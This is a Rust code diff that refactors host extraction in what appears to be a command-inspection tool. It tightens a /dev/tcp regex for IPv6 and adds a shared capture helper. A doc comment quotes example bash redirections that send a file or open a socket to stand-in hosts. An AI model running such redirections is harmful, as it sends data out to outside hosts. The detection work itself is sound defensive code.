@@ -218,7 +218,7 @@ static CONN_HOST: LazyLock<Regex> = LazyLock::new(|| {
 /// The host bash's network redirections open (`cat f > /dev/tcp/203.0.113.9/8443`,
 /// `exec 3<>/dev/tcp/drop.example.net/443`).
 static DEV_TCP: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"/dev/(?:tcp|udp)/(\[[0-9A-Fa-f:.]+\]|[0-9A-Fa-f:]*:[0-9A-Fa-f:.]+|[A-Za-z0-9][A-Za-z0-9\-]*(?:\.[A-Za-z0-9\-]+)*)/\d{1,5}\b"#)
+    Regex::new(r#"/dev/(?:tcp|udp)/(?:\[([0-9A-Fa-f:.]+)\]|([0-9A-Fa-f:]*:[0-9A-Fa-f:.]+|[A-Za-z0-9][A-Za-z0-9\-]*(?:\.[A-Za-z0-9\-]+)*))/\d{1,5}\b"#)
         .expect("static regex")
 });
 
@@ -399,23 +399,13 @@ pub(crate) fn any_host(text: &str, mut pred: impl FnMut(&str) -> bool) -> bool {
             }
         }
     }
-    if t.contains(':') {
-        for c in SCP_HOST.captures_iter(t) {
-            if let Some(m) = c.get(1) {
-                if !in_payload(m.start()) && pred(m.as_str()) {
-                    return true;
-                }
-            }
-        }
+    if t.contains(':') && captured(&SCP_HOST, t, &in_payload, &mut pred) {
+        return true;
     }
-    if t.contains("ssh") || t.contains("sftp") || t.contains("SSH") || t.contains("SFTP") {
-        for c in SSH_HOST.captures_iter(t) {
-            if let Some(m) = c.get(1) {
-                if !in_payload(m.start()) && pred(m.as_str()) {
-                    return true;
-                }
-            }
-        }
+    if (t.contains("ssh") || t.contains("sftp") || t.contains("SSH") || t.contains("SFTP"))
+        && captured(&SSH_HOST, t, &in_payload, &mut pred)
+    {
+        return true;
     }
     if t.contains("storage") {
         for c in AZ_ACCOUNT.captures_iter(t) {
@@ -433,26 +423,32 @@ pub(crate) fn any_host(text: &str, mut pred: impl FnMut(&str) -> bool) -> bool {
             }
         }
     }
-    if t.contains("/dev/") {
-        for c in DEV_TCP.captures_iter(t) {
-            if let Some(m) = c.get(1) {
-                let host = m.as_str().trim_start_matches('[').trim_end_matches(']');
-                if !in_payload(m.start()) && pred(host) {
-                    return true;
-                }
-            }
-        }
+    if t.contains("/dev/") && captured(&DEV_TCP, t, &in_payload, &mut pred) {
+        return true;
     }
-    if t.contains("Connection") || t.contains("create_connection") || t.contains("Net::HTTP") {
-        for c in CONN_HOST.captures_iter(t) {
-            if let Some(m) = c.get(1) {
-                if !in_payload(m.start()) && pred(m.as_str()) {
-                    return true;
-                }
-            }
-        }
+    if (t.contains("Connection") || t.contains("create_connection") || t.contains("Net::HTTP"))
+        && captured(&CONN_HOST, t, &in_payload, &mut pred)
+    {
+        return true;
     }
     bare_hosts(t, |at, host| !in_payload(at) && pred(host))
+}
+
+/// True when `pred` holds for a host `re` captures in `t` (its first group
+/// that took part in the match) outside a quoted payload.
+fn captured(
+    re: &Regex,
+    t: &str,
+    in_payload: &impl Fn(usize) -> bool,
+    pred: &mut impl FnMut(&str) -> bool,
+) -> bool {
+    re.captures_iter(t).any(|c| {
+        c.iter()
+            .skip(1)
+            .flatten()
+            .next()
+            .is_some_and(|m| !in_payload(m.start()) && pred(m.as_str()))
+    })
 }
 
 static BARE_HOST: LazyLock<Regex> = LazyLock::new(|| {
